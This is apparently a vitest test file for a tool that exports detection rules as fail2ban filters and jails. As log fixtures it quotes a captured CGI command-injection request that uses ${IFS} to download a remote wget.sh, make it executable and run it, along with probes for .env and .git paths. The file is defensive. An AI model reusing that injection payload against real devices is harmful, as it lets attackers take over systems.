import { cpSync, mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { RULES } from '../../../src/engine/rules/registry.ts'
import {
  filterOfRule,
  makeFilter,
  tryFilter,
  type FilterOutcome,
  type Wish,
} from '../../../src/export/fail2ban/filter.ts'
import { wordsOf } from '../../../src/export/fail2ban/literal.ts'
import { HOSTILE } from '../hostile.ts'
import { fileOf, installed, run } from '../programs.ts'

const WISH: Wish = {
  name: 'spoor-cgi',
  format: 'error/nginx',
  field: 'target',
  any: ['/cgi-bin/mainfunction.cgi/apmcfgupload'],
  all: ['${IFS}', 'wget'],
  starts: true,
  maxretry: 1,
  findtime: 3600,
  bantime: 21_600,
}

type Filter = Extract<FilterOutcome, { kind: 'filter' }>
function filterFor(wish: Partial<Wish>): Filter {
  const made = makeFilter({ ...WISH, ...wish })
  if (made.kind !== 'filter') throw new Error(made.why)
  return made
}

/** The line of the article on the CGI dropper, put together as nginx wrote it. */
const DROPPER =
  '2025/04/28 14:21:36 [error] 2464#2464: *7393 open() "/usr/share/nginx/html/cgi-bin/mainfunction.cgi/apmcfgupload" ' +
  'failed (2: No such file or directory), client: 176.65.148.10, request: "GET /cgi-bin/mainfunction.cgi/apmcfgupload?' +
  'session=xxx0\\xb4%52$c%52$ccd${IFS}/dev;wget${IFS}http://94.26.90.205/wget.sh;${IFS}chmod${IFS}+x${IFS}wget.sh;sh${IFS}' +
  'wget.sh HTTP/1.1", referrer: "http://xxx.xxx.xxx.xxx:80/cgi-bin/"'

const nginx = (path: string, request: string): string =>
  `2026/11/21 02:00:00 [error] 1#1: *2 open() "/srv${path}" failed (2: No such file or directory), client: 203.0.113.7, ` +
  `server: a.example, request: "${request}", host: "a.example"`
const access = (request: string, agent = 'a', status = 404): string =>
  `203.0.113.8 - - [21/Nov/2026:02:00:00 +0000] "${request}" ${status} 1 "-" "${agent}"`

const CGI = 'GET /cgi-bin/mainfunction.cgi/apmcfgupload?x=;wget${IFS}a HTTP/1.1'

/** Addresses of the lines that fail2ban-regex itself finds. */
function fail2ban({ filter }: Filter, lines: readonly string[]): string[] {
  const log = fileOf('a.log', lines.map((line) => `${line}\n`).join(''))
  const { out, code } = run('fail2ban-regex', ['-o', 'row', log, fileOf('a.conf', filter)])
  if (code !== 0 && code !== 1) throw new Error(out)
  return [...out.matchAll(/\['([\da-f.:]+)'/g)].map(([, ip]) => ip ?? '')
}

const ours = ({ pattern }: Filter, lines: readonly string[]): string[] =>
  lines.flatMap((line) => pattern.exec(line)?.[1] ?? [])

const CASES: readonly [
  name: string,
  filter: Filter,
  caught: readonly string[],
  left: readonly string[],
][] = [
  [
    'the dropper of the article',
    filterFor({}),
    [DROPPER, nginx('/cgi-bin/x', CGI)],
    [
      nginx('/', 'GET / HTTP/1.1'),
      // A path that pretends to be the rest of a line, to have another banned.
      nginx(`/", client: 198.51.100.1, server: a, request: "${CGI}`, 'GET /%22,%20client HTTP/1.1'),
    ],
  ],
  [
    'a probed path in an access log',
    filterFor({ format: 'access/combined', any: ['/.env', '/.git/'], all: [], status: ['4xx'] }),
    [access('GET /.env HTTP/1.1'), access('POST /.git/config HTTP/1.1')],
    [
      access('GET /.env HTTP/1.1', 'a', 200),
      access('GET /a?b=/.env HTTP/1.1'),
      access('GET / HTTP/1.1', '"GET /.env'),
    ],
  ],
  [
    'an agent whatever its case',
    filterFor({
      format: 'access/combined',
      field: 'agent',
      any: ['zgrab/', 'ZmEu'],
      all: [],
      starts: false,
      ignoreCase: true,
    }),
    [access('GET / HTTP/1.1', 'Mozilla/5.0 ZGrab/0.x'), access('GET /\\"x HTTP/1.1', 'zmeu')],
    [access('GET /zgrab/ HTTP/1.1')],
  ],
  [
    'a message of Apache',
    filterFor({
      format: 'error/apache',
      field: 'message',
      any: ['script not found or unable to stat'],
      all: [],
      starts: false,
    }),
    [
      '[Sat Nov 21 02:00:00.123456 2026] [cgi:error] [pid 7] [client 203.0.113.9:5123] AH02811: script not found or unable to stat: /srv/cgi-bin/x',
      '[Sat Nov 21 02:00:00 2026] [error] [client 2001:db8::5] script not found or unable to stat: /srv/a.cgi',
    ],
    [
      '[Sat Nov 21 02:00:00 2026] [error] [client 203.0.113.9] File does not exist: /srv/[client 198.51.100.9] script',
    ],
  ],
]

describe.each(CASES)('%s', (_, filter, caught, left) => {
  const lines = [...caught, ...left]

  it('is caught, and nothing else', () => {
    const told = tryFilter(
      filter.pattern,
      lines.map((text, i) => ({ text, wanted: i < caught.length })),
    )
    expect(told).toEqual({ caught: caught.map((_line, i) => i), missed: [], wrong: [] })
  })

  it.skipIf(!installed('fail2ban-regex'))('is what fail2ban-regex finds', () =>
    expect(fail2ban(filter, lines)).toEqual(ours(filter, lines)),
  )
})

it.skipIf(!installed('fail2ban-client'))('fail2ban takes filter and jail', () => {
  const log = fileOf('error.log', '')
  const { name, filter, jail } = filterFor({ logpath: log, any: ['/%(x)s/<HOST>;#'] })
  const home = join(dirname(fileOf('x', '')), 'fail2ban')
  cpSync('/etc/fail2ban', home, { recursive: true })
  rmSync(join(home, 'jail.d'), { recursive: true })
  mkdirSync(join(home, 'jail.d'))
  writeFileSync(join(home, 'filter.d', `${name}.conf`), filter)
  writeFileSync(join(home, 'jail.d', `${name}.local`), jail)
  const told = run('fail2ban-client', ['-c', home, '-d'])
  expect(told.code, told.out).toBe(0)
  expect(told.out).toContain("'addfailregex', '^")
  expect(told.out).toContain(log)
  expect(told.out).toMatch(/'spoor-cgi', 'bantime', '21600'/)
})

describe('hostile words', () => {
  it.each(HOSTILE)('%j stays a literal or is refused', (text) => {
    const made = makeFilter({ ...WISH, any: [text], all: [text], name: text, logpath: text })
    if (made.kind === 'client-list') return
    const plain = filterFor({ any: ['A'], all: ['A'] }).failregex
    // Nothing but the shape of the line, and letters, `/` and \xHH of what was wished.
    const bare = (source: string): string => source.replace(/\\x[\da-f]{2}|[\w/]/g, '')
    expect(bare(made.failregex)).toBe(bare(plain))
    expect(made.filter.split('\n')).toHaveLength(8)
    expect(made.jail).not.toContain(text.length > 1 ? text : '`')
    expect(ours(made, [nginx('/x', `GET ${text}${text} HTTP/1.1`)])).toHaveLength(1)
  })

  it.skipIf(!installed('fail2ban-regex'))(
    'fail2ban reads them as we do',
    () => {
      for (const text of HOSTILE) {
        const made = makeFilter({ ...WISH, any: [text], all: [] })
        if (made.kind !== 'filter' || text.includes('"')) continue
        const lines = [nginx('/x', `GET ${text} HTTP/1.1`)]
        expect(fail2ban(made, lines), text).toEqual(['203.0.113.7'])
      }
    },
    60_000,
  )
})

it('says when only the list of clients is honest', () => {
  expect(makeFilter({ ...WISH, format: 'w3c/iis' })).toEqual({ kind: 'client-list', why: 'format' })
  expect(makeFilter({ ...WISH, field: 'agent' })).toEqual({ kind: 'client-list', why: 'field' })
  expect(makeFilter({ ...WISH, any: [] })).toEqual({ kind: 'client-list', why: 'words' })
  expect(wordsOf(/a.c/)).toBeUndefined()
  expect(wordsOf(/(?:sqlmap\/|zgrab)/i)).toEqual(['sqlmap/', 'zgrab'])
})

it('makes a filter of those rules that are words', () => {
  const made = RULES.map((rule) => filterOfRule(rule, { ...WISH, format: 'access/combined' }))
  expect(made.some(({ kind }) => kind === 'filter')).toBe(true)
  expect(made.some(({ kind }) => kind === 'client-list')).toBe(true)
})
